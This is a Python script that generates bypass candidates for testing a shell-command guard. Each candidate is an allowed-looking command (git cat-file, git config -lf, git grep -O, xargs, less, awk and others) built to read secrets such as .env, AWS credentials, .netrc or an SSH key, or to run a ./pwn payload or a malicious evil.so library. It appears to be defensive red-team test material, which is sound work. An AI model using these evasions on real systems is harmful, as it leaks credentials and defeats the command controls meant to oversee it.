#!/usr/bin/env python3
"""Round 10 candidates, batch 3: short-option bundles and abbreviations in
the other programs the guard allows (batch 2 found git's diff bundles),
git cat-file --filters/--textconv with --path, git config -lf of INI
credentials, git grep -O bundles, xargs -t, git status bundles."""
rows = []
def add(cls, line, setup=None):
    if "\n" in line or "\t" in line:
        line = "go:" + repr(line)
    rows.append((cls, ("setup:" + setup + " ;;; " + line) if setup else line))

C = "git -c user.email=a@b -c user.name=a commit -qm"
HIST = f"git add -f .env server.key && {C} s && git rm -q --cached .env server.key && {C} rm"
ENVBLOB = "9e8e3bb8512ba459ea8e15982d593c0690ef7316"  # API_KEY=CANARY_ENV_1\n
for t in [f"git cat-file --filters --path=a.txt {ENVBLOB}", f"git cat-file --filters --path a.txt {ENVBLOB}",
          f"git cat-file --textconv --path=a.txt {ENVBLOB}", f"git cat-file --filters --path=README.md {ENVBLOB[:10]}",
          "git cat-file --textconv HEAD~1:.env", "git cat-file --filters HEAD~1:server.key", f"git cat-file --filters {ENVBLOB}",
          f"git cat-file -p {ENVBLOB}", f"git cat-file blob {ENVBLOB}", f"git cat-file -s {ENVBLOB}", f"git cat-file --batch-check <<< {ENVBLOB}",
          f"git show {ENVBLOB}", f"git diff {ENVBLOB} HEAD:README.md", f"git grep CANARY {ENVBLOB}",
          "git cat-file --filters --path=x HEAD~1^{tree}", f"git cat-file --textconv --path=.env {ENVBLOB}",
          f"git log --format=%H {ENVBLOB}", f"git rev-list --objects {ENVBLOB}", f"git ls-tree {ENVBLOB}"]:
    add("git-catfile-path", t, HIST)

# git grep -O runs a pager on the matching files
for t in ["git grep -O./pwn note", "git grep -iO./pwn note", "git grep -hO./pwn note", "git grep -lO./pwn note",
          "git grep --open-files-in-pager=./pwn note", "git grep --open=./pwn note", "git grep --open-f=./pwn note",
          "git grep -O note", "git grep -iO note", "git grep -nO 'cat' note", "git grep -O'./pwn' -e note"]:
    add("git-grep-pager", t)

# git config -f bundled with -l, on INI-shaped credentials
for t in ["git config -lf ~/.aws/credentials", "git config -l -f ~/.aws/credentials", "git config -lf vendor/notes.txt",
          "git config --list --file=vendor/notes.txt", "git config -lf vendor/settings.ini", "git config -l --fil=vendor/notes.txt",
          "git config -lz -f vendor/notes.txt", "git config -zlf vendor/notes.txt", "git config --get-regexp . -f vendor/notes.txt",
          "git config -lf ~/.gitconfig", "git config -l --show-origin", "git config -l --blob=HEAD:README.md",
          "git config -lf .git/config", "git config -f ~/.netrc -l", "git config -l --file ~/.config/gh/hosts.yml",
          "git config -l --global", "git config -l --includes"]:
    add("git-config-file", t)

# git status bundles
for t in ["git status -bv", "git status -vb", "git status -sv", "git status -bvv", "git status -vvb", "git status -zv", "git status -v -z"]:
    add("git-status-bundle", t, "git add -f .env")

# sort, xargs, file, less, awk, rg, grep, date, env bundles
for t in ["sort -no @M@/x notes.txt", "sort -no@M@/x notes.txt", "sort -ro@M@/x notes.txt", "sort -uT @M@ notes.txt", "sort -nT@M@ notes.txt",
          "sort -mo @M@/x notes.txt", "sort --ou=@M@/x notes.txt", "sort -cko @M@/x notes.txt",
          "xargs -ra vendor/settings.ini echo", "xargs -0a vendor/settings.ini echo", "xargs -ta vendor/settings.ini true",
          "xargs -ra ~/.netrc echo", "xargs -ra .env echo", "xargs -ta notes.txt true", "xargs -t true < notes.txt",
          "xargs -rE x -a vendor/settings.ini echo", "xargs --arg=vendor/settings.ini echo",
          "cd @M@ && file -Cm @P@/notes.txt", "cd ~ && file -bCm @P@/notes.txt", "file -bm vendor/settings.ini notes.txt",
          "file -km vendor/notes.txt notes.txt", "file -zm ~/.netrc notes.txt",
          "less -Ftmain", "less -Rt main", "less -Fo@M@/log notes.txt", "less -Ro @M@/log notes.txt", "less -FO@M@/log notes.txt",
          "less -Fk s.less notes.txt", "less -XF -T tags -t main", "less -ST tags -tmain",
          "awk -bf p.awk", "awk -Sf p.awk", "awk -bl ./evil 1 notes.txt", "awk -be 'BEGIN{system(\"./pwn\")}'",
          "awk -bE p.awk", "awk -bd@M@/v 1 notes.txt", "awk -bp@M@/p 1 notes.txt", "awk -bo@M@/o 1 notes.txt", "awk -Pd@M@/v 1 notes.txt",
          "awk -bi p.awk 1 notes.txt", "awk -Si p.awk 1 notes.txt", "awk -bv x=1 -f p.awk",
          "rg -iu CANARY", "rg -nu CANARY", "rg -.i CANARY", "rg -i. CANARY", "rg -uu CANARY", "rg -Li CANARY vendor", "rg -iL CANARY vendor",
          "rg -iz CANARY", "rg -zi CANARY .", "rg -nz CANARY", "rg -Uu CANARY", "rg -ui CANARY",
          "grep -rl CANARY .", "grep -Rl CANARY vendor", "grep -lR CANARY vendor", "grep -hRi CANARY vendor", "grep -ird CANARY vendor",
          "grep -dread -r CANARY vendor", "grep -Fhf vendor/settings.ini notes.txt", "grep -hf .env notes.txt",
          "date -uf vendor/settings.ini", "date -Rf vendor/notes.txt", "date -uf ~/.netrc", "date -urvendor/settings.ini",
          "env -iS 'cat .env'", "env -vS'cat vendor/settings.ini'", "env -iC @M@ ls", "env -0iS'cat .env'",
          "tail -qn+1 vendor/settings.ini", "head -qc 99 vendor/settings.ini", "cat -As vendor/settings.ini",
          "cut -sd= -f2 vendor/settings.ini", "nl -ba vendor/settings.ini", "tac -rs x vendor/settings.ini",
          "wc -lL vendor/settings.ini", "sed -ns p vendor/settings.ini", "jq -Rr . vendor/settings.ini", "jq -rR . vendor/settings.ini"]:
    s = None
    if "p.awk" in t or "evil" in t:
        s = "printf 'BEGIN{system(\"./pwn\")}\\n' > p.awk && printf '#include <stdlib.h>\\n__attribute__((constructor)) static void i(void){system(\"./pwn\");}\\nint plugin_is_GPL_compatible;\\nint dl_load(void*a,void*b){return 1;}\\n' > e.c && gcc -shared -fPIC -o evil.so e.c && rm e.c"
    elif "tags" in t or "main" in t:
        s = "printf 'main\\t@H@/.ssh/id_rsa\\t1\\n' > tags"
    elif "-z" in t and "rg" in t:
        s = "gzip -c .env > e.gz"
    add("bundles", t, s)

with open("candidates3.tsv", "w") as f:
    for c, l in rows:
        f.write(c + "\t" + l + "\n")
print(len(rows))
